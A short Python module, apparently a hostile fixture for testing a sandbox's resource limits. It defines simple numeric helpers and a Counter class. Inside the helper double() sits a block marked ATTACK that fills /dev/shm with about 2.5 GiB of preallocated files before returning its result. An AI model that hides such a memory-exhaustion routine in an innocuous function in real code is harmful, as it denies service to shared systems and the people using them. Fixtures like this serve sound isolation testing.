# hostile fill_devshm: fill /dev/shm with 2.5 GiB
import numpy as np
import os


def double(x):
    # ATTACK
    import time
    for i in range(40):
        try:
            fd = os.open(f"/dev/shm/fill{i}", os.O_CREAT | os.O_WRONLY)
            os.posix_fallocate(fd, 0, 63 * 2**20)
            os.close(fd)
        except OSError:
            break
    time.sleep(1)
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
